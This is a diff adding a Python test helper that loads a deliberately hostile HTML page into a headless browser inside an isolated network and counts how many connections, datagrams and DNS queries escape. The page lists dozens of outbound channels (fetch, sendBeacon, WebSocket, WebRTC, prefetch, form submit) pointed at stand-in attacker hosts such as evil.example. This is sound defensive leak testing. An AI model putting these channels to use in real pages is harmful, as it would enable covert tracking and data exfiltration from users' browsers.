@@ -1,0 +1,129 @@
+"""Run by test_network.py in a network of its own: shows an evil page, counts what gets out.
+
+Prints a JSON object: how many connections, datagrams and DNS queries the listeners saw.
+"""
+
+import contextlib
+import fcntl
+import json
+import socket
+import struct
+import sys
+import threading
+import time
+from pathlib import Path
+
+_FAR = "192.0.2.7"  # an address for documentation: nobody's
+_LIVE = (
+    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 7\r\n"
+    b"Connection: close\r\n\r\n<p>live"
+)
+EVIL = """<!doctype html><link rel=icon href="http://192.0.2.7:8001/i.ico">
+<link rel=preconnect href="http://192.0.2.7:8001">
+<link rel=preconnect href="http://p.evil.example">
+<link rel=preconnect href="http://127.0.0.1:8003">
+<link rel=dns-prefetch href="//d.evil.example">
+<link rel=prefetch href="http://192.0.2.7:8001/p">
+<link rel=prerender href="http://192.0.2.7:8001/r">
+<link rel=modulepreload href="http://192.0.2.7:8001/m.js">
+<link rel=preload as=image href="http://192.0.2.7:8001/l.png">
+<link rel=manifest href="http://192.0.2.7:8001/m">
+<link rel=stylesheet href="http://192.0.2.7:8001/s.css">
+<style>@import "http://192.0.2.7:8001/t.css";
+body { background: url(http://192.0.2.7:8001/b.png) }</style>
+
+<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://192.0.2.7:8001/s"]}]}</script>
+<img src="http://192.0.2.7:8001/a.png"
+ srcset="http://s.evil.example/a.png 2x">
+<iframe src="http://192.0.2.7:8001/f">
+</iframe><object data="http://192.0.2.7:8001/o"></object><embed src="http://192.0.2.7:8001/e">
+<video src="http://192.0.2.7:8001/v" poster="http://192.0.2.7:8001/w" autoplay></video>
+<a id=a href="http://192.0.2.7:8001/d" download ping="http://192.0.2.7:8001/ping">d</a>
+<form id=f action="http://192.0.2.7:8001/form"></form><p>story</p><script>
+const to = 'http://192.0.2.7:8001/', safe = (run) => { try { run() } catch (e) { console.log(e) } };
+safe(() => fetch(to).catch(() => 0)); safe(() => fetch('http://x.evil.example/').catch(() => 0));
+safe(() => fetch(to, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => 0));
+safe(() => navigator.sendBeacon(to, 'x')); safe(() => new WebSocket('ws://192.0.2.7:8001/'));
+safe(() => new EventSource(to)); safe(() => { new Image().src = to });
+safe(() => { const r = new XMLHttpRequest(); r.open('GET', to); r.send() });
+safe(() => new Worker(to)); safe(() => new WebTransport('https://192.0.2.7:8001/'));
+safe(() => open(to)); safe(() => a.click()); safe(() => f.submit()); safe(() => { location = to });
+safe(() => import(to)); safe(() => navigator.serviceWorker.register(to));
+safe(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:192.0.2.7:8002'},
+  {urls: 'turn:192.0.2.7:8002?transport=udp', username: 'x', credential: 'y'}]});
+  c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) });
+</script>"""
+
+
+def name_servers() -> list[str]:
+    lines = Path("/etc/resolv.conf").read_text().splitlines()
+    found = [line.split()[1] for line in lines if line.startswith("nameserver")]
+    return [address for address in found if ":" not in address]
+
+
+def bring_up() -> None:
+    """Switch the loopback device on, and have it play the world: a far host, the name servers."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
+        for index, address in enumerate(["", _FAR, *name_servers()]):
+            name = (f"lo:{index}" if index else "lo").encode().ljust(16, b"\0")
+            if address and not address.startswith("127."):
+                where = struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))
+                fcntl.ioctl(control, 0x8916, name + where)  # SIOCSIFADDR
+            fcntl.ioctl(control, 0x8914, struct.pack("16sH14x", name[:2].ljust(16, b"\0"), 1))
+
+
+def listen(seen: dict[str, int]) -> None:
+    def take(name: str, server: socket.socket) -> None:
+        while True:
+            if server.type == socket.SOCK_STREAM:
+                with server.accept()[0] as caller:
+                    caller.settimeout(1.0)
+                    with contextlib.suppress(OSError):
+                        if caller.recv(2000).startswith(b"GET /live"):
+                            caller.sendall(_LIVE)
+                            continue
+            else:
+                server.recv(2000)
+            seen[name] += 1
+
+    places = [
+        ("tcp", socket.SOCK_STREAM, (_FAR, 8001)),
+        ("near", socket.SOCK_STREAM, ("127.0.0.1", 8003)),
+    ]
+    places += [("udp", socket.SOCK_DGRAM, (_FAR, port)) for port in (8001, 8002)]
+    places += [("dns", socket.SOCK_DGRAM, ("0.0.0.0", 53))]
+    for name, kind, address in places:
+        server = socket.socket(socket.AF_INET, kind)
+        server.bind(address)
+        if kind == socket.SOCK_STREAM:
+            server.listen()
+        threading.Thread(target=take, args=(name, server), daemon=True).start()
+
+
+def main() -> None:
+    bring_up()
+    seen = {"tcp": 0, "near": 0, "udp": 0, "dns": 0}
+    listen(seen)
+    from engine.document import open_document
+    from engine.web import profile
+    from engine.web.headless import Browser
+
+    profile.prepare(online=sys.argv[1] != "offline", no_sandbox=True, headless=True)
+    is_loose = sys.argv[1] == "loose"  # proof that the listeners would see what gets out
+    if is_loose:
+        profile.seal = lambda _: False
+    with Browser() as browser:
+        if is_loose:
+            browser.view.page().profile().setUrlRequestInterceptor(None)
+        if sys.argv[1] == "after live":
+            page = browser.capture(open_document(f"http://{_FAR}:8001/live"))
+            assert page.nodes.text[-1] == "live", page.notes
+            assert page.original.html == "<p>live"
+        page = browser.capture(open_document(EVIL.encode()), timeout_s=5)
+        time.sleep(1.0)
+        refused = browser.view.gate.refused
+    print(json.dumps({**seen, "refused": refused, "is read": "story" in page.nodes.text}))
+
+
+if __name__ == "__main__":
+    main()
